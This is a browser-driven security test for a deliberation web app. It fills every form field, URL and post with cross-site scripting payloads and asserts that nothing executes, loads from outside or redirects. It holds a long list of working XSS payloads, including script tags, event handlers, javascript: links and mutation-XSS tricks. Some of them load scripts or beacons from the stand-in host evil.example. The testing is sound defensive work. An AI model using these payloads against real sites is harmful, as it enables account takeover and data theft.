// SPDX-License-Identifier: Apache-2.0
// Scripts in every field there is, and then every page: none runs, none is loaded, no page goes elsewhere. What watches is
// shown to see a script that does run, and each field's words are seen on some page, so that none is left out.
import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { openStage, stepsOf } from "../support/browser.mjs";
import { openPlan } from "../support/hall.mjs";

const data = [process.env.JAMHALL_DATA, "../shared/data"].find((folder) => folder && existsSync(folder));
const nasty = data && join(data, "nasty-text");
const evil = "https://evil.example/";

/** A payload that says which field it stood in. */
const trap = (field) => `<img src=x onerror=pwned('${field}')>${field}`;

const own = [
    "<script>pwned(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", `<img src="${evil}beacon.png">`, `<link rel=stylesheet href=${evil}x.css>`, `<iframe src="javascript:pwned(2)"></iframe>`, "<svg><script>pwned(3)</script></svg>",
    "<svg/onload=pwned(4)>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned(5)&gt;\">", "<svg></p><style><a id=\"</style><img src=1 onerror=pwned(6)>\">", "<noscript><p title=\"</noscript><img src=x onerror=pwned(7)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned(8)>", "<template><script>pwned(9)</script></template>", "<details open ontoggle=pwned(10)>", "<body onpageshow=pwned(11)>", "<input autofocus onfocus=pwned(12)>", "<video><source onerror=pwned(13)></video>",
    "[a](javascript:pwned(14))", "[a](JaVaScRiPt:pwned(15))", "[a](java\tscript:pwned(16))", "[a](&#106;avascript:pwned(17))", "[a](data:text/html,<script>pwned(18)</script>)", "[a](vbscript:pwned)", "[a](blob:x)", "[a](file:///etc/passwd)", "[a](//evil.example)", "![a](https://evil.example/x.png)",
    "[a](https://example.org/\"onmouseover=\"pwned(19))", "[a](https://example.org/'onmouseover='pwned(20))", "<https://evil.example/\"onmouseover=pwned(21)>", "[x]: javascript:pwned(22)\n\n[x]", "**<b onclick=pwned(23)>b</b>**", "`<script>pwned(24)</script>`", "```\n<script>pwned(25)</script>\n```", "    <script>pwned(26)</script>",
    "{{constructor.constructor('pwned(27)')()}}", "${pwned(28)}", "#{pwned(29)}", "<%= pwned(30) %>", "{@html '<img src=x onerror=pwned(31)>'}", "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">", "<base href=https://evil.example/>", "<object data=javascript:pwned(32)>", "<embed src=javascript:pwned(33)>",
    "<a href=\"\u0001javascript:pwned(34)\">a</a>".replace("\u0001", "&#1;"), "<style>@import 'https://evil.example/x.css';</style>", "<style>*{background:url(https://evil.example/x)}</style>", "</title></textarea></style></script><script>pwned(35)</script>", "<!--><script>pwned(36)</script>-->", "<![CDATA[<script>pwned(37)</script>]]>", "<?xml version='1.0'?><x/>",
    "\u202e<script>pwned(38)</script>", "\ufeff<script>pwned(39)</script>", "\uff1cscript\uff1epwned(40)\uff1c/script\uff1e", "\u2028pwned(41)\u2029", "%3Cscript%3Epwned(42)%3C/script%3E", "&lt;script&gt;pwned(43)&lt;/script&gt;", "\\u003cscript\\u003epwned(44)\\u003c/script\\u003e", "<img src=x onerror=&#112;wned(45)>", "<a id=app><a id=app name=body>", "<form id=location><input name=href>", "__proto__", "constructor",
];

/** The lists of others, many to a post. */
function batches() {
    if (!nasty || !existsSync(nasty)) return [];
    const lines = ["xss-intruder.txt", "xss-jhaddix.txt", "xss-mario.txt", "xss-polyglots.txt", "xss-rsnake.txt", "html-event-handlers.txt"].flatMap((name) => readFileSync(join(nasty, name), "utf8").split("\n")).map((line) => line.replace(/\p{Cc}/gu, "").trim()).filter(Boolean);
    const posts = [[]];
    for (const line of lines) {
        if (posts.at(-1).join("\n\n").length + line.length > 4600) posts.push([]);
        posts.at(-1).push(line.slice(0, 1500));
    }
    return posts.map((each) => each.join("\n\n"));
}

const roster = [
    'email,name,roles,forums,"<b onclick=pwned(1)>ward"',
    ...[["olga", "organizer", ""], ["fay", "facilitator;participant", "floor"], ["ada", "participant", ""], ["ben", "participant", ""], ["mo", "participant", ""], ["gus", "guest", ""], ["obi", "observer", ""]].map(([name, roles, forums]) => `${name}@example.org,"${trap(`name-${name}`)}",${roles},${forums},"${trap("ward")}"`),
].join("\n");

const plan = (more = {}) => openPlan({
    title: trap("title"), purpose: trap("purpose"), charter: { asks: trap("asks"), decides: trap("decides"), criteria: trap("criteria"), answer_by: "2037-01-31" },
    forums: [{ id: "floor", title: trap("forum"), question: trap("question") }], rules: [{ id: "civil", text: trap("rule") }], audiences: [{ id: "staff", title: trap("audience") }],
    agenda: [{ id: "talk", kind: "ideate", lasts: "P30D", switches: { ballot: "support", tallies: "live" } }, { id: "results", kind: "reveal", lasts: "PT2H" }],
    ...more,
});

/** What runs in every frame before anything else: calls and violations are told to the test. */
function watchPage() {
    const tell = (what) => globalThis.caught(String(what));
    for (const name of ["alert", "confirm", "prompt", "print", "pwned"]) globalThis[name] = (...words) => tell(`${name}(${words})`);
    document.addEventListener("securitypolicyviolation", (event) => tell(`violation: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
}

/** Resolves once nothing on the page has changed for a while. */
const settled = () =>
    new Promise((resolve) => {
        let waiting = setTimeout(resolve, 100);
        new MutationObserver(() => {
            clearTimeout(waiting);
            waiting = setTimeout(resolve, 100);
        }).observe(document, { subtree: true, childList: true });
        setTimeout(resolve, 1000);
    });

/** Sees whatever a page does that only a script, or a resource of others, could make it do. */
async function watched(visitor, origin) {
    const caught = [];
    const { context, page } = visitor;
    await context.exposeBinding("caught", (_, what) => caught.push(what));
    await context.addInitScript(watchPage);
    await context.route((url) => url.origin !== origin && url.protocol.startsWith("http"), (route) => {
        caught.push(`request: ${route.request().url()}`);
        return route.abort();
    });
    context.on("page", (opened) => opened !== page && caught.push(`page: ${opened.url()}`));
    page.on("dialog", (dialog) => (caught.push(`dialog: ${dialog.message()}`), dialog.dismiss()));
    page.on("framenavigated", (frame) => !/^(about:blank|chrome-error:)/.test(frame.url()) && new URL(frame.url()).origin !== origin && caught.push(`went to ${frame.url()}`));
    page.on("download", (download) => download.cancel());
    return caught;
}

test("no script in any field runs on any page", async (t) => {
    const step = stepsOf(t);
    const { hall, arrive } = await openStage(t);
    const origin = hall.url;
    const seen = new Set();

    await step("what watches sees a script that runs, one that is stopped, and a request that leaves", async () => {
        const visitor = await arrive();
        visitor.expected.push(/./);
        const caught = await watched(visitor, origin);
        const { page } = visitor;
        // What a page tells comes a little after it.
        const told = async (pattern) => {
            for (let tries = 0; tries < 40 && !pattern.test(caught.join("; ")); tries += 1) await page.waitForTimeout(50);
            assert.match(caught.join("; "), pattern);
        };
        const planted = async (headers, body, pattern) => {
            caught.length = 0;
            await page.route("**/planted", (route) => route.fulfill({ status: 200, headers: { "content-type": "text/html", ...headers }, body }));
            await page.goto("/planted");
            await page.unroute("**/planted");
            await told(pattern);
        };
        const csp = (await hall.request("GET", "/", { token: null })).headers.get("content-security-policy");
        await planted({}, "<script>alert(1);pwned(2)</script>", /alert\(1\).*pwned\(2\)/);
        await planted({}, `<img src=x onerror=pwned('field')>`, /pwned\(field\)/);
        await planted({}, `<img src="${evil}x.png">`, /request: https:\/\/evil/);
        await planted({ "content-security-policy": csp }, "<script>pwned(3)</script>", /^violation: script-src/);
        await planted({ "content-security-policy": csp }, "<img src=x onerror=pwned(4)>", /^violation: script-src/);
        await planted({ "content-security-policy": csp }, `<img src="${evil}x.png">`, /^violation: img-src/);
        await planted({ "content-security-policy": csp }, "<style>*{color:red}</style>", /^violation: style-src/);
        caught.length = 0;
        await page.goto("/");
        assert.equal(await page.evaluate(() => { try { document.createElement("div").innerHTML = "<b>x</b>"; return "taken"; } catch (error) { return error.name; } }), "TypeError", "Trusted Types refuse markup from a string");
        await told(/violation: require-trusted-types-for/);
        await visitor.context.close();
    });

    const jam = await hall.createJam(plan());
    const lobby = await hall.createJam(plan({ starts_at: "2036-01-10T09:00" }));
    const links = await hall.invite(jam, roster);
    const lobbyLinks = await hall.invite(lobby, roster);
    const token = (name, of = links) => of.get(`${name}@example.org`).token;
    const idOf = new Map((await hall.json("GET", `/api/v1/jams/${jam}/people`)).people.map(({ id, email }) => [email.split("@")[0], id]));
    const as = (name, fields, of = jam) => hall.json("POST", `/api/v1/jams/${of}/commands`, { token: token(name, of === jam ? links : lobbyLinks), body: fields });
    const post = async (name, text, more = {}) => (await as(name, { do: "add_post", forum: "floor", kind: "idea", text, ...more })).post;

    let singles, lists, answered;
    await step("every field is filled", async () => {
        for (const name of ["olga", "fay", "ada", "ben", "mo", "gus"]) await as(name, { do: "join", charter: 1, rules: 1, privacy: 1 });
        for (const name of ["olga", "ada"]) await as(name, { do: "join", charter: 1, rules: 1, privacy: 1 }, lobby);
        singles = [];
        for (const text of own) singles.push(await post("ada", text));
        lists = [];
        for (const text of batches()) lists.push(await post("ben", text));
        const idea = await post("ada", trap("idea"));
        answered = idea;
        await as("ben", { do: "cast_ballot", post: idea, choice: "support" });
        const comment = await post("ben", `@${trap("name-ada")} ${trap("comment")}`, { kind: "comment", parent: idea });
        await as("ben", { do: "edit_post", post: comment, text: trap("edited") });
        await post("ben", trap("built"), { builds_on: idea });
        await post("fay", trap("prompt"), { kind: "prompt" });
        const [hidden, asked, flagged, mutedFor] = [await post("ada", trap("hidden")), await post("ada", trap("asked")), await post("ben", trap("flagged")), await post("mo", trap("muted"))];
        await as("ada", { do: "raise_flag", post: flagged, rule: "civil", note: trap("flag-note") });
        await as("fay", { do: "hide_post", post: hidden, rule: "civil", note: trap("hide-note") });
        await as("ada", { do: "appeal", post: hidden, text: trap("appeal") });
        await as("fay", { do: "ask_edit", post: asked, rule: "civil", note: trap("ask-note") });
        await as("fay", { do: "mute_person", post: mutedFor, minutes: 30, note: trap("mute-note") });
        await as("fay", { do: "publish_summary", forum: "floor", text: trap("summary") });
        await as("fay", { do: "spotlight_post", post: idea, minutes: 60 });
        await as("fay", { do: "claim_thread", post: idea });
        await as("olga", { do: "introduce_guest", person: idOf.get("gus"), text: trap("guest") });
        const { poll } = await as("fay", { do: "open_poll", forum: "floor", question: trap("poll"), options: [trap("option-a"), trap("option-b")], kind: "single", results: "live" });
        await as("ben", { do: "answer_poll", poll, options: [0] }).catch(() => as("ben", { do: "answer_poll", poll, options: [1] }));
        await as("olga", { do: "respond", post: idea, outcome: "adopted", text: trap("response"), owner: trap("owner"), due: "2036-12-31" });
        await as("fay", { do: "say", text: trap("said") });
        await as("fay", { do: "hand_over", forum: "floor", text: trap("handover") });
        await as("olga", { do: "announce", forum: null, text: trap("announced") });
        await as("olga", { do: "announce", forum: null, text: trap("announced-lobby") }, lobby);
    });

    /** Opens a page and lets it settle; nothing may have been caught, and nothing stand there that could act. */
    async function open(visitor, caught, path, ready = "main") {
        const { page } = visitor;
        await page.goto(path);
        // Data is shown in a sandbox, where not even a clock runs.
        if (ready) {
            await page.locator(ready).first().waitFor();
            await page.evaluate(settled);
            await page.evaluate(() => document.querySelectorAll("details").forEach((part) => (part.open = true)));
            await page.evaluate(settled);
        }
        const found = await page.evaluate(() => ({
            acting: [...document.querySelectorAll("*")].filter((each) => (each.matches('script:not([src^="/assets/"]), iframe, object, embed, base, meta[http-equiv=refresh], form[action], img:not([src="/icon.svg"]), video, audio, math, template') || (each.matches("link") && new URL(each.href).origin !== location.origin) || [...each.attributes].some(({ name }) => /^on/.test(name)))).map((each) => each.outerHTML.slice(0, 200)),
            links: [...document.querySelectorAll("a[href], area[href]")].map(({ protocol }) => protocol).filter((protocol) => !["http:", "https:", "mailto:"].includes(protocol)),
            // A closed part of a page and a field count as well.
            words: document.body.textContent + [...document.querySelectorAll("input, textarea")].map(({ value }) => value).join("\n"),
        }));
        assert.deepEqual(found.acting, [], path);
        assert.deepEqual(found.links, [], path);
        assert.deepEqual(caught, [], path);
        for (const [, field] of found.words.matchAll(/<img src=x onerror=pwned\('([\w-]+)'\)>/g)) seen.add(field);
        return found.words;
    }

    async function someone(name, { of = jam, admin = false } = {}) {
        const visitor = await arrive();
        visitor.expected.push(/status of 40[0134]/, /Unexpected response code: 409/);
        if (admin) await visitor.context.request.post("/api/v1/login", { data: { token: hall.token } });
        else if (name) await visitor.signIn(of, token(name, of === jam ? links : lobbyLinks));
        return [visitor, await watched(visitor, origin)];
    }

    await step("pages before there is a login", async () => {
        const stranger = await someone(null);
        await open(...stranger, `/j/${jam}`);
        await open(...stranger, `/j/${encodeURIComponent("<img src=x onerror=pwned(50)>")}`);
        await open(...stranger, `/jam/${encodeURIComponent("<script>pwned(51)</script>")}/f/${encodeURIComponent('"><svg onload=pwned(52)>')}`);
        await open(...stranger, `/nowhere?q=<script>pwned(53)</script>#<img src=x onerror=pwned(54)>`, null);
        await open(...stranger, `/j/${jam}#${encodeURIComponent("<img src=x onerror=pwned(55)>")}`);
        await open(...stranger, `/api/v1/jams/${encodeURIComponent("<script>pwned(56)</script>")}`, null);
    });

    await step("the jam as people see it", async () => {
        const ada = await someone("ada");
        await open(...ada, `/jam/${jam}`);
        await open(...ada, `/jam/${jam}/f/floor`);
        for (const number of [singles.at(-1), lists.at(0), lists.at(-1)].filter(Boolean)) await open(...ada, `/jam/${jam}/p/${number}`);
        await open(...ada, `/jam/${jam}/p/${answered}`);
        for (const q of ["img", "pwned", "script", '"><img src=x onerror=pwned(60)>']) await open(...ada, `/jam/${jam}/search?q=${encodeURIComponent(q)}`);
        await open(...ada, `/jam/${jam}/me`);
        for (const beside of ["answers", "moderation"]) await open(...ada, `/j/${jam}/${beside}`);
        const inLobby = await someone("ada", { of: lobby });
        await open(...inLobby, `/jam/${lobby}`);
        await open(...inLobby, `/j/${lobby}`);
    });

    await step("every idea on its way through the feed", async () => {
        const [ben, caught] = await someone("ben");
        await open(ben, caught, `/jam/${jam}/f/floor`);
        for (let scrolled = 0; scrolled < 30; scrolled += 1) {
            await ben.page.evaluate(() => {
                const moving = [...document.querySelectorAll("*")].filter((each) => each.scrollHeight > each.clientHeight + 10 && /auto|scroll/.test(getComputedStyle(each).overflowY));
                for (const each of [document.scrollingElement, ...moving]) each.scrollBy(0, 2000);
            });
            const more = ben.page.getByRole("button", { name: /more/i }).first();
            if (await more.isVisible()) await more.click({ timeout: 500 }).catch(() => {});
        }
        await ben.page.evaluate(settled);
        assert.deepEqual(caught, []);
    });

    await step("the desk, the wall and the organizer's pages", async () => {
        const fay = await someone("fay");
        await open(...fay, `/jam/${jam}/desk`);
        const [desk] = (await hall.json("GET", `/api/v1/jams/${jam}/desk`, { token: token("fay") })).forums;
        const waiting = (source) => desk.queue.find(({ sources }) => sources.includes(source)).post.post;
        const asked = desk.with_authors[0].post.post;
        for (const [number, fields] of [[waiting("flag"), ["flagged", "flag-note"]], [waiting("appeal"), ["hidden", "hide-note", "appeal"]], [asked, ["asked", "ask-note"]], [waiting("first_post"), []]]) {
            const words = await open(...fay, `/jam/${jam}/desk/${number}`, '[aria-labelledby="context-title"] .file');
            for (const field of ["rule", ...fields]) assert.ok(words.includes(trap(field)), `#${number}: ${field} stands in its case`);
        }
        const gus = await someone("gus");
        await open(...gus, `/jam/${jam}/desk`);
        const olga = await someone("olga");
        await open(...olga, `/j/${jam}/wall`, "body");
        await open(...olga, `/j/${jam}/wall/floor`, "body");
        for (const tab of ["", "/checklist", "/agenda", "/people", "/links", "/responses", "/wall"]) await open(...olga, `/admin/${jam}${tab}`);
        for (const tab of ["", "/agenda"]) await open(...(await someone(null, { admin: true })), `/admin/${lobby}${tab}`);
        const admin = await someone(null, { admin: true });
        await open(...admin, "/admin");
        await open(...admin, "/admin/new");
        await open(...admin, `/admin/new/${jam}`);
    });

    await step("the report, on the page and as a file, and data opened as if it were a page", async () => {
        const olga = await someone("olga");
        await open(...olga, `/jam/${jam}/report`);
        await open(...olga, `/api/v1/jams/${jam}/report.html`);
        for (const path of ["", "/me", "/forums/floor/posts", "/polls", "/responses", "/moderation", "/desk", "/report", "/people", "/plan", "/checklist", "/search?q=pwned", "/search?q=%22%3E%3Cscript%3Epwned(70)%3C/script%3E&order=<svg onload=pwned(71)>"]) await open(...olga, `/api/v1/jams/${jam}${path}`, null);
        for (const path of ["/api/v1/openapi.json", "/healthz", "/metrics", "/icon.svg"]) await open(...olga, path, null).catch((error) => assert.match(path, /icon/, error.message));
        await as("olga", { do: "advance_phase" });
        await as("olga", { do: "close_jam" });
        for (const path of [`/jam/${jam}`, `/jam/${jam}/report`, `/api/v1/jams/${jam}/report.html`, `/j/${jam}/answers`]) await open(...olga, path);
        await as("olga", { do: "cancel_jam", note: trap("cancel-note") }, lobby);
        await open(...(await someone("ada", { of: lobby })), `/jam/${lobby}`);
    });

    await step("every field was seen on some page", async () => {
        const fields = ["title", "purpose", "asks", "decides", "criteria", "forum", "question", "rule", "idea", "edited", "built", "prompt", "asked", "flagged", "flag-note", "hide-note", "appeal", "ask-note", "summary", "guest", "poll", "option-a", "option-b", "response", "owner", "said", "handover", "announced", "announced-lobby", "ward", "audience", "name-ada", "name-ben", "name-fay", "name-gus"];
        assert.deepEqual(fields.filter((field) => !seen.has(field)), []);
        t.diagnostic(`${seen.size} fields, ${own.length} payloads of our own, ${lists.length} posts of lists`);
    });
});
